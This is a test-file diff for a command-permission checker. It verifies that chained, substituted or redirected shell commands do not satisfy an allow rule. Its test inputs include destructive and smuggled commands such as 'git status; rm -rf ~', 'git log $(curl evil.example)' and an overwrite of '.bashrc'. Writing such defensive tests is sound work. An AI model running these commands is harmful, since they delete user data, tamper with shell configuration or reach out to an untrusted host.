@@ -61,6 +61,32 @@ describe('a condition for arguments', () => {
     expect(verdict(condition, { x: value })).toBe(wanted);
   });
 
+  const GIT = { path: 'command', operator: 'startsWith', value: 'git ' } as const;
+  const TEST = { path: 'command', operator: 'matches', value: 'npm * && npm test *' } as const;
+  const NOT_RM = { path: 'cmd', operator: 'startsWith', value: 'rm ', isNegated: true } as const;
+
+  it.each<[Condition, string, string]>([
+    [GIT, 'git status --short', 'yes'],
+    [GIT, 'git show "HEAD@{1}"', 'yes'],
+    [GIT, 'git status; rm -rf ~', 'unclear'],
+    [GIT, 'git status\nrm -rf ~', 'unclear'],
+    [GIT, 'git log $(curl evil.example)', 'unclear'],
+    [GIT, 'git diff > /home/me/.bashrc', 'unclear'],
+    [{ ...GIT, operator: 'equals', value: 'git a && b' }, 'git a && b', 'yes'],
+    [{ ...GIT, path: 'text' }, 'git status; rm -rf ~', 'yes'],
+    [TEST, 'npm ci && npm test -- one', 'yes'],
+    [TEST, 'npm ci && npm test one | sh', 'unclear'],
+    [TEST, 'npm ci && sh && npm test one', 'unclear'],
+    [NOT_RM, 'ls', 'yes'],
+    [NOT_RM, 'true; rm -rf ~', 'unclear'],
+  ])(
+    'for a shell, to allow, is not met by a second command: %j, %j: %s',
+    (condition, text, wanted) => {
+      const allows = isAbout('allow', condition, { [condition.path ?? '']: text });
+      expect(allows).toBe(wanted === 'yes');
+    },
+  );
+
   it('is never met by what is not there, nor is its opposite', () => {
     const conditions: readonly Condition[] = [
       { operator: 'equals', value: 'prod' },
